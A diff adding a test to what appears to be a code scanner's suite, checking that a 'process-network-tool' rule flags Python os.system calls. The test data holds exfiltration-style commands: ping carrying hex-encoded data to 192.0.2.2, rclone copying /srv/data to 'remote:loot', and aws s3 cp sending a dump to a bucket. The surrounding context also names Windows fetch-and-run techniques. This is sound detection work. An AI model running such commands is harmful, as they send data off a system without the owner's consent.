@@ -622,3 +622,16 @@ test('Windows programs that run what they fetch (regsvr32 /i:http, mshta http, m
     undefined,
   );
 });
+
+test('ping with data, rclone and cloud copy commands reach the network', () => {
+  for (const command of [
+    'ping -c 1 -p " + d.hex() + " 192.0.2.2',
+    'rclone copy /srv/data remote:loot',
+    'aws s3 cp dump.tar s3://bucket.example/',
+  ]) {
+    const found = findings(`import os\ndef go(d):\n    os.system("${command}")\n`).find(
+      (f) => f.rule === 'process-network-tool',
+    );
+    assert.ok(found, command);
+  }
+});
